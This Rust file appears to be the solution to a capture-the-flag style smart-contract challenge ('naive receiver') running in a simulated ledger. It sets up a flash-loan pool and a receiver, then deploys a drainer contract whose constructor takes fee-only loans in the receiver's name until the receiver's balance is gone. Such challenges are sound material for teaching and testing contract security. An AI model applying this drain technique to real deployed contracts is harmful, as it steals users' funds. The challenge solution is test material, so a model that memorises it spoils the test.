//! Naive receiver: empty a flash-loan borrower by taking loans in its name.
//!
//! The pool lets anyone name the receiver and the receiver pays the fixed
//! fee on every loan it gets. A helper contract whose constructor asks for
//! `receiver.balance / fee` zero-amount loans drains it in a single
//! deployment transaction.

use std::sync::Arc;

use alloy_primitives::{Address, U256};
use gauntlet_ledger::abi::{decode_uint, Selector};
use gauntlet_ledger::contract::{Contract, Frame};
use gauntlet_ledger::math;
use gauntlet_ledger::primitives::ether;
use gauntlet_ledger::revert::{CallResult, Revert};
use gauntlet_ledger::vm::Ledger;
use gauntlet_targets::naive_receiver::{
    self, calls, FlashLoanReceiver, NaiveReceiverLenderPool, ETH_ADDRESS,
};
use tracing::debug;

use crate::actors::{DEPLOYER, SIGNER_2};
use crate::contract::{
    check_eq, expect_unauthorized, setup_eq, PhaseExt, Scenario, ScenarioError, TrackedBalance,
};

pub const ID: &str = "naive_receiver";

const PLAYER: Address = SIGNER_2;

fn ether_in_pool() -> U256 {
    ether(1_000)
}

fn ether_in_receiver() -> U256 {
    ether(10)
}

#[derive(Debug, Clone, Copy)]
pub struct NaiveReceiver;

#[derive(Debug, Clone, Copy)]
pub struct Fixture {
    pub pool: Address,
    pub receiver: Address,
}

/// Takes fee-only loans on behalf of `receiver` until it cannot pay
/// another fee. All the work happens in the constructor.
#[derive(Debug, Clone, Copy)]
pub struct NaiveDrainer {
    pub pool: Address,
    pub receiver: Address,
}

impl Contract for NaiveDrainer {
    fn name(&self) -> &'static str {
        "NaiveDrainer"
    }

    fn construct(&self, vm: &mut Ledger, frame: &Frame) -> CallResult<()> {
        let this = frame.address;
        let fee_query = calls::flash_fee(ETH_ADDRESS, U256::ZERO);
        let fee = decode_uint(&vm.call(this, self.pool, U256::ZERO, &fee_query)?)?;
        let mut rounds = math::div(vm.balance(self.receiver), fee)?;
        let loan = calls::flash_loan(self.receiver, ETH_ADDRESS, U256::ZERO, &[]);
        while !rounds.is_zero() {
            vm.call(this, self.pool, U256::ZERO, &loan)?;
            rounds -= U256::from(1u8);
        }
        Ok(())
    }

    fn call(&self, _vm: &mut Ledger, _frame: &Frame, input: &[u8]) -> CallResult<Vec<u8>> {
        match Selector::from_input(input) {
            Some(selector) => Err(Revert::UnknownSelector {
                contract: self.name(),
                selector,
            }),
            None => Err(Revert::NotPayable {
                contract: self.name(),
            }),
        }
    }
}

/// `onFlashLoan` called directly must be refused by the receiver.
fn assert_callback_guarded(vm: &mut Ledger, fixture: &Fixture) -> Result<(), ScenarioError> {
    let callback = calls::on_flash_loan(
        DEPLOYER,
        ETH_ADDRESS,
        ether_in_receiver(),
        naive_receiver::fixed_fee(),
        &[],
    );
    expect_unauthorized(
        vm.send(DEPLOYER, fixture.receiver, U256::ZERO, &callback),
        "onFlashLoan",
        "InvalidCaller",
    )
}

impl Scenario for NaiveReceiver {
    type Fixture = Fixture;

    fn id(&self) -> &'static str {
        ID
    }

    fn player(&self) -> Address {
        PLAYER
    }

    fn player_transaction_budget(&self) -> Option<u64> {
        Some(1)
    }

    fn setup(&self, vm: &mut Ledger) -> Result<Fixture, ScenarioError> {
        let pool = vm
            .deploy(DEPLOYER, Arc::new(NaiveReceiverLenderPool), U256::ZERO)
            .in_setup("deploy pool")?;
        vm.send(DEPLOYER, pool, ether_in_pool(), &[])
            .in_setup("fund pool")?;
        let eth = naive_receiver::eth_token(vm, pool).in_setup("ETH()")?;
        setup_eq("pool balance", ether_in_pool(), vm.balance(pool))?;
        let max = vm
            .view(pool, &calls::max_flash_loan(eth))
            .and_then(|out| decode_uint(&out))
            .in_setup("maxFlashLoan")?;
        setup_eq("max flash loan", ether_in_pool(), max)?;
        let fee = vm
            .view(pool, &calls::flash_fee(eth, U256::ZERO))
            .and_then(|out| decode_uint(&out))
            .in_setup("flashFee")?;
        setup_eq("flash fee", ether(1), fee)?;

        let receiver = vm
            .deploy(DEPLOYER, Arc::new(FlashLoanReceiver { pool }), U256::ZERO)
            .in_setup("deploy receiver")?;
        vm.send(DEPLOYER, receiver, ether_in_receiver(), &[])
            .in_setup("fund receiver")?;
        let fixture = Fixture { pool, receiver };
        assert_callback_guarded(vm, &fixture)?;
        setup_eq("receiver balance", ether_in_receiver(), vm.balance(receiver))?;
        Ok(fixture)
    }

    fn execute(&self, vm: &mut Ledger, fixture: &mut Fixture) -> Result<(), ScenarioError> {
        let drainer = NaiveDrainer {
            pool: fixture.pool,
            receiver: fixture.receiver,
        };
        let address = vm
            .deploy(PLAYER, Arc::new(drainer), U256::ZERO)
            .attack_step("deploy drainer")?;
        debug!(%address, receiver = %vm.balance(fixture.receiver), "drainer deployed");
        Ok(())
    }

    fn verify(&self, vm: &Ledger, fixture: &Fixture) -> Result<(), ScenarioError> {
        check_eq("receiver balance", U256::ZERO, vm.balance(fixture.receiver))?;
        check_eq(
            "pool balance",
            ether_in_pool() + ether_in_receiver(),
            vm.balance(fixture.pool),
        )?;
        let mut scratch = vm.clone();
        assert_callback_guarded(&mut scratch, fixture)
    }

    fn tracked_balances(&self, fixture: &Fixture) -> Vec<TrackedBalance> {
        vec![
            TrackedBalance::native("pool_eth", fixture.pool),
            TrackedBalance::native("receiver_eth", fixture.receiver),
        ]
    }
}
